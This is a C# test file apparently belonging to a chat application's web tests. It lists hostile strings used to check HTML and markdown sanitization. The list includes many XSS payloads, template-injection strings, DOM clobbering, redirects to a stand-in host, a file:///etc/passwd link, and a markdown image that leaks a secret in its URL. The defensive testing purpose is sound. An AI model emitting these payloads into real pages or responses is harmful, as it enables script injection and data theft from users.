namespace NextGpt.Server.Tests.Web;

/// <summary>Text that wants to become something else on a page: markup, scripts, addresses, overrides.</summary>
internal static class HostileText
{
    /// <summary>Each sets <c>window.__hit</c>, leaves the origin, or breaks out of its place where it succeeds.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>window.__hit=1</script>",
        "<img src=x onerror=window.__hit=1>",
        "<svg onload=window.__hit=1><animate onbegin=window.__hit=1 attributeName=x dur=1s>",
        "<iframe src=\"javascript:parent.__hit=1\"></iframe><iframe srcdoc=\"<script>parent.__hit=1</script>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__hit=1&gt;\">",
        "<form><button formaction=javascript:window.__hit=1>x</form><input autofocus onfocus=window.__hit=1>",
        "<details open ontoggle=window.__hit=1><summary>x</summary></details>",
        "<a href=\"javascript:window.__hit=1\">x</a> <base href=\"https://evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\"><link rel=stylesheet href=https://evil.example/a.css>",
        "<style>body{display:none}@import 'https://evil.example/b.css';</style><div style=\"background:url(https://evil.example/c)\">",
        "</textarea></div></article></template><script>window.__hit=1</script>",
        "\"><img src=x onerror=window.__hit=1> '><img src=x onerror=window.__hit=1> `><img src=x onerror=window.__hit=1>",
        "[x](javascript:window.__hit=1) [y](JaVaScRiPt:window.__hit=1) [z](\u0001javascript:window.__hit=1)",
        "[x](data:text/html,<script>parent.__hit=1</script>) [y](vbscript:x) [z](file:///etc/passwd) [w](blob:x)",
        "[x](https://evil.example/\"onmouseover=\"window.__hit=1) <https://evil.example/'onclick='window.__hit=1>",
        "![leak](https://evil.example/leak.png?q=secret) ![x](data:image/svg+xml,<svg onload=window.__hit=1>)",
        "![x][1]\n\n[1]: https://evil.example/ref.png \"t\\\"onerror=window.__hit=1\"",
        "[![x](https://evil.example/in.png)](https://evil.example/out)",
        "<https://evil.example/auto> <mailto:a@b.example?subject=x\"onclick=1>",
        "```html\n<script>window.__hit=1</script>\n```\n\n`<img src=x onerror=window.__hit=1>`",
        "```\"><img src=x onerror=window.__hit=1>\nx\n```",
        "| <img src=x onerror=window.__hit=1> | b |\n|---|---|\n| [x](javascript:window.__hit=1) | ![i](//evil.example/p) |",
        "# <img src=x onerror=window.__hit=1>\n\n> <script>window.__hit=1</script>\n\n1. <svg/onload=window.__hit=1>",
        "&lt;script&gt;window.__hit=1&lt;/script&gt; &#x3C;img src=x onerror=window.__hit=1&#x3E;",
        "[a]: javascript:window.__hit=1\n\n[a] [click][a]",
        "\u202Etxet desrever\u202C and \u2066isolated\u2069 and \u0007\u001B[31mred\u001B[0m \u0000 end",
        "*[x*](https://evil.example) **[y](//evil.example/z)** ~~<b onclick=window.__hit=1>~~",
        "{{constructor.constructor('window.__hit=1')()}} ${window.__hit=1} <%= 1 %> #{1}",
        "<!--><img src=x onerror=window.__hit=1>--> <![CDATA[<script>window.__hit=1</script>]]>",
        "<x id=question name=composer class=turn data-act=erase-now>clobber</x> <form id=data></form>",
        new string('>', 400) + " deep quote",
        string.Concat(Enumerable.Repeat("[", 300)) + "x" + string.Concat(Enumerable.Repeat("](https://evil.example)", 300)),
        string.Concat(Enumerable.Repeat("- ", 200)) + "deep list",
        "\uD800 half \uDC00 surrogates \uFFFF",
    ];
}
